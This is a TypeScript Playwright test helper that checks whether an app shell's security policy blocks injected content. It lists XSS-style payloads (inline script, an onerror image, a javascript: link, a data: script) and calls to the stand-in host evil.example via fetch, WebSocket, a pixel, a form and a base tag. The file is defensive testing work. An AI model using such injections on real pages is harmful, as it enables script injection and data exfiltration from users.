/**
 * What a page that was tampered with would try, and what must come of it under the policy. The same for
 * every shell.
 */
import type { Page } from 'playwright-core';

interface Attempt {
  what: string;
  /** Calls `done` with what came of it. */
  script: string;
  outcome: unknown;
}

const inject = (element: string, set: string) =>
  `const e = document.createElement('${element}'); ${set}; document.body.append(e);`;
const later = (value: string) => `setTimeout(() => done(${value}), 200)`;

const attempts: readonly Attempt[] = [
  {
    what: 'an inline script',
    script: `${inject('script', `e.textContent = 'window.injected = 1'`)} ${later('window.injected')}`,
    outcome: undefined,
  },
  {
    what: 'an event attribute',
    script: `${inject('div', `e.innerHTML = '<img src="x" onerror="window.injected = 1">'`)} ${later('window.injected')}`,
    outcome: undefined,
  },
  {
    what: 'a javascript: link',
    script: `${inject('a', `e.href = 'javascript:window.injected = 1'`)} e.click(); ${later('window.injected')}`,
    outcome: undefined,
  },
  {
    what: 'a script from elsewhere',
    script: inject('script', `e.onerror = () => done('blocked'); e.src = 'https://evil.example/x.js'`),
    outcome: 'blocked',
  },
  {
    what: 'a script in its own address',
    script: inject('script', `e.onerror = () => done('blocked'); e.src = 'data:text/javascript,window.injected=1'`),
    outcome: 'blocked',
  },
  {
    what: 'a request to elsewhere',
    script: `fetch('https://evil.example/').then(() => done('sent'), () => done('blocked'))`,
    outcome: 'blocked',
  },
  {
    what: 'a socket to elsewhere',
    script: `try { new WebSocket('wss://evil.example/').onerror = () => done('blocked') } catch { done('blocked') }`,
    outcome: 'blocked',
  },
  {
    what: 'a pixel from elsewhere',
    script: `const e = new Image(); e.onerror = () => done('blocked'); e.src = 'https://evil.example/pixel.png'`,
    outcome: 'blocked',
  },
  {
    what: 'an inline style sheet',
    script:
      inject('style', `e.textContent = 'body { --injected: 1 }'`) +
      `done(getComputedStyle(document.body).getPropertyValue('--injected'))`,
    outcome: '',
  },
  {
    what: 'a base address',
    script: `${inject('base', `e.href = 'https://evil.example/'`)} done(document.baseURI.includes('evil'))`,
    outcome: false,
  },
  {
    what: 'a form that sends elsewhere',
    script: `${inject('form', `e.action = 'https://evil.example/'`)} e.submit(); ${later(`location.host.includes('evil')`)}`,
    outcome: false,
  },
  {
    what: 'the camera',
    script: `navigator.mediaDevices.getUserMedia({ video: true }).then(() => done('granted'), () => done('denied'))`,
    outcome: 'denied',
  },
  {
    what: 'where the person is',
    script: `navigator.geolocation.getCurrentPosition(() => done('granted'), () => done('denied'))`,
    outcome: 'denied',
  },
  {
    what: 'the world of Node',
    script: `done([typeof process, typeof require, typeof module, typeof Buffer].join())`,
    outcome: 'undefined,undefined,undefined,undefined',
  },
];

/** What each attempt came to, and what it should have: equal when all is well. */
export async function tryAll(page: Page): Promise<{ came: [string, unknown][]; expected: [string, unknown][] }> {
  const came: [string, unknown][] = [];
  for (const { what, script } of attempts) {
    came.push([what, await page.evaluate(`new Promise((done) => { ${script} })`)]);
  }
  return { came, expected: attempts.map(({ what, outcome }) => [what, outcome]) };
}
